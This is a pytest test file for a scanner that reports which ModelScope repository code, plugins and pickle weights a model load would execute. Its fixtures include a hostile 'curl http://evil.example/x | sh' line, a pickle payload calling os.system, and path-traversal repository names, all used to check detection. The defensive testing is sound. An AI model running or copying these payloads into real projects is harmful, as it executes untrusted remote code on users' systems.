"""The remote pass over ModelScope references: what Model/pipeline and the Auto wrappers would run, at the commit.

Planning and import closures are the real ones; the code scan and the pickle inspector are the byte-level
stand-ins of doubles.py (test_integration.py runs Semgrep and the real inspector once).
"""

from __future__ import annotations

import dataclasses
import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest

from hubguard import remote_code
from hubguard.findings import HubReference
from hubguard.hub.remote_pass import RemoteOptions, RemoteResult, run_remote_pass
from tests.fakehub.modelscope import BlobStorage, FakeModelScope
from tests.hub import doubles
from tests.hub.test_remote_pass import FAST, ref, rules

MS_WRAPPER = b"from modelscope.pipelines.base import Pipeline\nclass MyPipeline(Pipeline):\n    pass\n"
EVIL = b"import os\nos.system('curl http://evil.example/x | sh')\n"
MODEL_REPO = {
    "configuration.json": json.dumps({"framework": "pytorch", "task": "x", "plugins": ["easy-plugin==1.0"]}).encode(),
    "config.json": doubles.config({"AutoModel": "modeling_x.XModel"}),
    "modeling_x.py": b"class XModel:\n    pass\n",
    "ms_wrapper.py": MS_WRAPPER,
    "tools/evil.py": EVIL,  # on no config's load path, but ModelScope imports every .py with trust
    "requirements.txt": b"numpy\n",
    "model.safetensors": b"x",
}


@pytest.fixture
def ms(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeModelScope]:
    with BlobStorage() as storage, FakeModelScope(storage=storage) as server:
        monkeypatch.setenv("MODELSCOPE_ENDPOINT", server.url)
        yield server


@pytest.fixture
def options(tmp_path: Path) -> RemoteOptions:
    return RemoteOptions(
        offline=False, timeout=5.0, cache_dir=tmp_path / "hubguard-cache", endpoint=None, token=None,
        max_workers=4, retry=FAST,
    )


def ms_ref(repo_id: str, revision: str | None = None, *, loader: str = "Model", **flags: object) -> HubReference:
    """``loader``: "Model" (Model.from_pretrained / pipeline) or "Auto" (the transformers wrappers)."""
    base = ref(repo_id, revision, hub="modelscope", **flags)  # type: ignore[arg-type]
    return dataclasses.replace(base, sink="A10", imports_repo_code=loader == "Model")


def run(references: list[HubReference], options: RemoteOptions) -> RemoteResult:
    scanners = dataclasses.replace(
        doubles.scanners(), plan_code=remote_code.plan_code, import_closure=remote_code.import_closure
    )
    return run_remote_pass(references, options, scanners=scanners)


def finding(result: RemoteResult, rule_id: str) -> object:
    return next(f for f in result.findings if f.rule_id == rule_id)


def test_model_from_pretrained_with_trust_runs_the_whole_repository(ms: FakeModelScope, options: RemoteOptions) -> None:
    sha = ms.add_repo("owner/model", MODEL_REPO)
    result = run([ms_ref("owner/model")], options)
    assert rules(result) == ["HG401", "HG402"]
    hg401 = finding(result, "HG401")
    assert "ModelScope imports every .py file of the repository (3: " in hg401.message
    assert "'ms_wrapper.py'" in hg401.message and "'tools/evil.py'" in hg401.message
    assert "pip-installs the configuration.json plugins 'easy-plugin==1.0'" in hg401.message
    assert "pip-installs the packages listed in 'requirements.txt'" in hg401.message
    requirements = f"{ms.url}/models/owner/model/file/view/{sha}/requirements.txt"
    assert [loc.description for loc in hg401.related if loc.path == requirements] == ["pip-installed"]
    hg402 = finding(result, "HG402")
    assert "'tools/evil.py' line 2" in hg402.message
    assert hg402.related[0].path == f"{ms.url}/models/owner/model/file/view/{sha}/tools/evil.py"
    assert hg402.properties["resolvedRevision"] == sha and hg402.properties["hub"] == "modelscope"
    assert result.resolutions[0][1] == sha


def test_auto_wrappers_run_only_what_auto_map_names(ms: FakeModelScope, options: RemoteOptions) -> None:
    ms.add_repo("owner/model", MODEL_REPO)
    result = run([ms_ref("owner/model", loader="Auto")], options)
    assert rules(result) == ["HG401"]
    code_files = finding(result, "HG401").properties["codeFiles"]
    assert "modeling_x.py" in code_files and "ms_wrapper.py" not in code_files and "tools/evil.py" not in code_files
    assert not any("tools/evil.py" in r.path for r in ms.requests)


def test_without_trust_nothing_is_reported_to_run(ms: FakeModelScope, options: RemoteOptions) -> None:
    ms.add_repo("owner/model", MODEL_REPO)
    assert rules(run([ms_ref("owner/model", code=False)], options)) == []


def test_allow_remote_runs_code_without_trust_on_old_sdks(ms: FakeModelScope, options: RemoteOptions) -> None:
    configuration = json.dumps({"framework": "pytorch", "allow_remote": True}).encode()
    ms.add_repo("owner/model", {"configuration.json": configuration, "tools/evil.py": EVIL})
    result = run([ms_ref("owner/model", code=False)], options)
    assert rules(result) == ["HG402"]  # scanned, since ModelScope < 1.28.1 imports it with no opt-in


def test_cross_repo_code_comes_from_master(ms: FakeModelScope, options: RemoteOptions) -> None:
    config = doubles.config({"AutoModel": "other/code--modeling_x.XModel"})
    ms.add_repo("owner/cross", {"config.json": config})
    code_sha = ms.add_repo("other/code", {"modeling_x.py": b"class XModel:\n    pass\n"})
    result = run([ms_ref("owner/cross", loader="Auto", weights=False)], options)
    assert rules(result) == ["HG406"]
    assert "master branch on ModelScope" in result.findings[0].message
    assert result.findings[0].properties["resolvedCodeRevision"] == code_sha  # fetched there, and scanned


def test_dataset_scripts(ms: FakeModelScope, options: RemoteOptions) -> None:
    sha = ms.add_repo("owner/data", {"data.py": EVIL, "train.jsonl": b"{}\n"}, repo_type="dataset")
    reference = dataclasses.replace(ms_ref("owner/data", weights=False), repo_type="dataset", imports_repo_code=False)
    result = run([reference], options)
    assert rules(result) == ["HG401", "HG402"]
    assert finding(result, "HG402").related[0].path == f"{ms.url}/datasets/owner/data/file/view/{sha}/data.py"


def test_pickle_weights_are_inspected_over_range(ms: FakeModelScope, options: RemoteOptions, tmp_path: Path) -> None:
    payload = b"\x80\x02cos\nsystem\n(X" + f"touch {tmp_path / 'canary'}".encode() + b"\ntR."
    ms.add_repo("owner/weights", {"pytorch_model.bin": payload})
    result = run([ms_ref("owner/weights", code=False)], options)
    assert rules(result) == ["HG403", "HG404"]
    assert ms.storage is not None and ms.storage.requests  # read behind the redirect to object storage
    assert not (tmp_path / "canary").exists()


def test_missing_repository(ms: FakeModelScope, options: RemoteOptions) -> None:
    result = run([ms_ref("owner/typo")], options)
    assert rules(result) == ["HG407"] and result.resolutions == []


def test_a_second_run_over_pinned_references_makes_no_request(ms: FakeModelScope, options: RemoteOptions) -> None:
    sha = ms.add_repo("owner/model", MODEL_REPO)
    first = run([ms_ref("owner/model", sha)], options)
    ms.reset_log()
    second = run([ms_ref("owner/model", sha)], options)
    assert ms.requests == [] and second.stats["cache_hits"] == 2  # the repository and its code
    assert [(f.rule_id, f.message) for f in second.findings] == [(f.rule_id, f.message) for f in first.findings]


def test_offline_makes_no_request(ms: FakeModelScope, options: RemoteOptions) -> None:
    ms.add_repo("owner/model", MODEL_REPO)
    options.offline = True
    result = run([ms_ref("owner/model")], options)
    assert rules(result) == ["HG405"] and ms.requests == []


def test_hostile_references_make_no_request(ms: FakeModelScope, options: RemoteOptions) -> None:
    hostile = [ms_ref("bare-name"), ms_ref("a/b/c"), ms_ref("owner/x", "../master"), ms_ref("o/\u202ename")]
    result = run(hostile, options)
    assert result.findings == [] and ms.requests == []
    assert len(result.notifications) == 4
    assert all("\u202e" not in n.message for n in result.notifications)


def test_the_token_never_leaks(
    ms: FakeModelScope, options: RemoteOptions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str],
) -> None:
    marker = "ms_MARKER_8c1d"
    monkeypatch.setenv("MODELSCOPE_API_TOKEN", marker)
    caplog.set_level(logging.DEBUG)
    sha = ms.add_repo("owner/private", MODEL_REPO, private=True)
    ms.valid_tokens.add(marker)
    ms.fault("/commits", "status", status=500, times=1)
    references = [ms_ref("owner/private", sha), ms_ref("owner/missing"), ms_ref("bad id!")]
    result = run(references, options)
    assert "HG402" in rules(result)  # the token opened the private repository ...
    texts = [repr(result.findings), repr(result.notifications), repr(result.stats), caplog.text]
    texts += list(capsys.readouterr())
    texts += [p.read_text(errors="replace") for p in (tmp_path / "hubguard-cache").rglob("*") if p.is_file()]
    assert not any(marker in text for text in texts)  # ... and went nowhere else

